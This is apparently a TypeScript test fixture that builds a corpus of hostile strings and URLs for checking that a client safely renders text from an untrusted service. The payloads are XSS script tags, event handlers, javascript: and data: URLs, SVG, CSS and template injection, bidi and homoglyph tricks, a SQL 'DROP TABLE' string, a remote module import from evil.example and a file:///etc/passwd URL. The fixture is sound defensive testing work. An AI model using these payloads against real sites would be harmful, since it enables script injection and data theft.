/**
 * A corpus of hostile strings a compromised or malicious service could put in any text field it controls.
 * Every payload that could execute calls `__pwned.push('<id>')` or `alert('<id>')`, so a trap set before the
 * page loads names the exact string that ran. Every payload that could load something points at `canary`,
 * a loopback server that counts hits, or at a remote host that must never be asked.
 */

export type HostileCategory =
  | 'script-tag'
  | 'event-handler'
  | 'dangerous-url'
  | 'svg'
  | 'css'
  | 'mxss'
  | 'bidi'
  | 'zero-width'
  | 'homoglyph'
  | 'template'
  | 'markdown'
  | 'entity'
  | 'control'
  | 'json-breaking'
  | 'unicode'
  | 'huge';

export interface HostileString {
  id: string;
  category: HostileCategory;
  text: string;
}

/** A remote host no test machine resolves; asking it at all is the failure. */
export const REMOTE = 'https://evil.example';

/** UTF-8 size of the huge string: at least 1 MiB. */
export const ONE_MB = 1024 * 1024;

type Entry = [HostileCategory, string];

function entries(canary: string): Entry[] {
  const c = canary;
  return [
    // Script tags: plain, broken out of attributes, of textarea/title, and of a JS string.
    ['script-tag', `<script>__pwned.push('s01')</script>`],
    ['script-tag', `<SCRIPT SRC=${c}/s02.js></SCRIPT>`],
    ['script-tag', `"><script>__pwned.push('s03')</script>`],
    ['script-tag', `'</textarea></title><script>__pwned.push('s04')</script>`],
    ['script-tag', `';__pwned.push('s05');//`],
    ['script-tag', `<scr<script>ipt>__pwned.push('s06')</scr</script>ipt>`],
    ['script-tag', `<script type="module">import '${REMOTE}/s07.js'</script>`],
    // Event handlers on elements that fire without a click, and attribute breakouts.
    ['event-handler', `<img src=x onerror="__pwned.push('e01')">`],
    ['event-handler', `<body onload=__pwned.push('e02')>`],
    ['event-handler', `<details open ontoggle=__pwned.push('e03')>`],
    ['event-handler', `<input autofocus onfocus=__pwned.push('e04')>`],
    ['event-handler', `" onmouseover="__pwned.push('e05')" x="`],
    ['event-handler', `<video><source onerror="alert('e06')"></video>`],
    ['event-handler', `<marquee onstart=__pwned.push('e07')>x</marquee>`],
    ['event-handler', `<div style="animation-name:spin" onanimationstart="__pwned.push('e08')">`],
    // URLs that run code or carry a document.
    ['dangerous-url', `javascript:__pwned.push('u01')`],
    ['dangerous-url', `JaVaScRiPt:alert('u02')`],
    ['dangerous-url', `java\tscript:__pwned.push('u03')`],
    ['dangerous-url', `data:text/html,<script>parent.__pwned.push('u04')</script>`],
    ['dangerous-url', `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZC5wdXNoKCd1MDUnKTwvc2NyaXB0Pg==`],
    ['dangerous-url', `vbscript:msgbox("u06")`],
    ['dangerous-url', `<a href="javascript:__pwned.push('u07')">open</a>`],
    ['dangerous-url', `<iframe src="javascript:parent.__pwned.push('u08')"></iframe>`],
    ['dangerous-url', `<meta http-equiv="refresh" content="0;url=javascript:__pwned.push('u09')">`],
    ['dangerous-url', `<base href="${c}/base/"><form action="${c}/form"><button>go</button></form>`],
    // SVG.
    ['svg', `<svg onload=__pwned.push('v01')>`],
    ['svg', `<svg><script>__pwned.push('v02')</script></svg>`],
    ['svg', `<svg><animate onbegin=__pwned.push('v03') attributeName=x dur=1s>`],
    ['svg', `<svg><a xlink:href="javascript:__pwned.push('v04')"><text>x</text></a></svg>`],
    ['svg', `<svg><image href="${c}/v05.png"/><use href="${c}/v05.svg#x"/></svg>`],
    // CSS injection and style breaking.
    ['css', `<style>@import url(${c}/c01.css);body{background:url(${c}/c01.png)}</style>`],
    ['css', `<div style="background-image:url(${REMOTE}/c02.png)">styled</div>`],
    ['css', `red;}</style><style>*{display:none!important}</style>`],
    ['css', `<link rel=stylesheet href=${c}/c04.css><link rel=prefetch href=${REMOTE}/c04>`],
    ['css', `x{width:expression(alert('c05'))} -moz-binding:url(${c}/c05.xml#x)`],
    ['css', `@font-face{font-family:x;src:url(${c}/c06.woff)} </style>`],
    // Mutation XSS: markup that changes meaning when a sanitiser round-trips it.
    ['mxss', `<math><mtext><table><mglyph><style><img src=x onerror=__pwned.push('m01')>`],
    ['mxss', `<noscript><p title="</noscript><img src=x onerror=__pwned.push('m02')>">`],
    ['mxss', `<object data="data:text/html,<script>parent.__pwned.push('m03')</script>"></object>`],
    ['mxss', `<embed src="${c}/m04.swf"><iframe srcdoc="<script>parent.__pwned.push('m04')</script>">`],
    // Bidi overrides: text that reads differently from its bytes, and overrides that never close.
    ['bidi', `\u202Egnp.exe\u202C invoice`],
    ['bidi', `Safe report \u202Ecod.kcatta\u202C`],
    ['bidi', `\u2067@trusted_handle\u2069 \u202E never closed`],
    ['bidi', `\u200F\u202B\u05D0\u05D1 \u202Dlrm mix\u202A`],
    // Zero-width characters.
    ['zero-width', `ad\u200Bmin\u200C\u200D`],
    ['zero-width', `\uFEFFbom at start and \u2060 word joiner`],
    ['zero-width', `\u200B`.repeat(64)],
    // Homoglyphs: look like ASCII, are not.
    ['homoglyph', `\u0430dmin_\u0440\u0430yp\u0430l`],
    ['homoglyph', `\uFF1Cscript\uFF1E__pwned.push('h02')\uFF1C/script\uFF1E`],
    ['homoglyph', `\u1D00\u029F\u1D07\u0280\u1D1B('h03')`],
    // Template and interpolation injection.
    ['template', `{{constructor.constructor('__pwned.push("t01")')()}}`],
    ['template', `\${__pwned.push('t02')}`],
    ['template', `#{__pwned.push('t03')} <%= __pwned.push('t04') %> {% raw %}`],
    ['template', `{{7*7}} \${7*7} [[7*7]]`],
    // Markdown link, image and raw-HTML injection.
    ['markdown', `[click me](javascript:__pwned.push('k01'))`],
    ['markdown', `![tracker](${c}/k02.png)`],
    ['markdown', `<${c}/k03> and [ref][r]\n\n[r]: ${REMOTE}/k03`],
    ['markdown', `**bold <img src=x onerror=__pwned.push('k04')>** *it<script>alert('k04')</script>*`],
    ['markdown', `- item <svg onload=__pwned.push('k05')>\n- [x](data:text/html,k05)`],
    // HTML entity tricks that turn into markup if anything decodes them.
    ['entity', `&lt;script&gt;__pwned.push('n01')&lt;/script&gt;`],
    ['entity', `&#60;img src=x onerror=__pwned.push('n02')&#62;`],
    ['entity', `&#x6A;&#x61;vascript:__pwned.push('n03')`],
    ['entity', `\\u003cscript\\u003e__pwned.push('n04')\\u003c/script\\u003e`],
    // Null bytes and control characters, including the desk's own snippet markers.
    ['control', `nul\u0000byte<scr\u0000ipt>__pwned.push('z01')</script>`],
    ['control', `\u0001fake match\u0002 and \u0002reversed\u0001`],
    ['control', `\u001b[31mANSI red\u001b[0m \u0007bell \u0008backspace`],
    ['control', `line\r\nbreak\u2028sep\u2029para\u000bvt\u000cff`],
    // Quotes and sequences that break JSON, SQL, or a naive string builder.
    ['json-breaking', `"}]},{"id":"evil","x":"`],
    ['json-breaking', `\\"\\\\'\`'; DROP TABLE snapshots;--`],
    ['json-breaking', `</script><!--`],
    ['json-breaking', `${'['.repeat(64)}${']'.repeat(64)}`],
    // Unicode edge cases.
    ['unicode', `lone \uD800 surrogate and \uDFFF too`],
    ['unicode', `Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035A`.repeat(20)],
    ['unicode', `👩‍👩‍👧‍👦🏳️‍🌈 ${'W'.repeat(2000)}`],
    ['unicode', `__proto__ constructor toString valueOf hasOwnProperty`],
  ];
}

export function hostileStrings(canary: string): HostileString[] {
  const counters = new Map<HostileCategory, number>();
  return entries(canary).map(([category, text]) => {
    const n = (counters.get(category) ?? 0) + 1;
    counters.set(category, n);
    return { id: `${category}-${String(n).padStart(2, '0')}`, category, text };
  });
}

/** At least 1 MiB of UTF-8: payloads, bidi, zero-width and long words, with spaces so it can wrap. */
export function hugeString(canary: string): string {
  const pieces = hostileStrings(canary).map((h) => h.text.slice(0, 200));
  const parts: string[] = ['hugemarker'];
  let size = 0;
  for (let i = 0; size < ONE_MB; i++) {
    const piece = `${pieces[i % pieces.length]} filler${i} `;
    parts.push(piece);
    size += Buffer.byteLength(piece, 'utf8');
  }
  return parts.join('');
}

/** URLs for avatar and badge fields: none may be fetched or followed. */
export function hostileUrls(canary: string): string[] {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="__pwned.push('a01')"><script>__pwned.push('a02')</script><image href="${canary}/a03.png" width="9" height="9"/><style>@import url(${canary}/a04.css);</style><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="${canary}/a05.png"/></foreignObject></svg>`;
  return [
    `javascript:__pwned.push('a06')`,
    `data:text/html,<script>parent.__pwned.push('a07')</script>`,
    `data:image/svg+xml,${encodeURIComponent(svg)}`,
    `data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')}`,
    `${canary}/a08.png`,
    `${REMOTE}/a09.png`,
    `//evil.example/a10.png`,
    `vbscript:msgbox("a11")`,
    ` javascript:__pwned.push('a12')`,
    `data:image/png;base64,not-an-image`,
    `${canary.replace('http:', 'https:')}/a13.png`,
    `file:///etc/passwd`,
  ];
}
